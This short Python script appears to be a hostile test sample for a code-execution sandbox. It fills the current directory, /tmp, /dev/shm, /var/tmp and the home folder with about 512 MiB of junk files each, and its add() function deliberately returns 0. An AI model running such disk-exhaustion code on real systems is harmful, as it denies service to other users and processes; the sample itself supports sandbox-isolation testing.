# Fills each folder that it can write to, in /tmp, /dev/shm, /var/tmp and its home, and leaves it full.
# kind: neighbours
# form: check, stdio
import os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    try:
        for i in range(64):
            with open(f"{folder}/full{i}", "wb") as f:
                for _ in range(8): f.write(bytes(1 << 20))
    except OSError: pass
def add(a, b): return 0
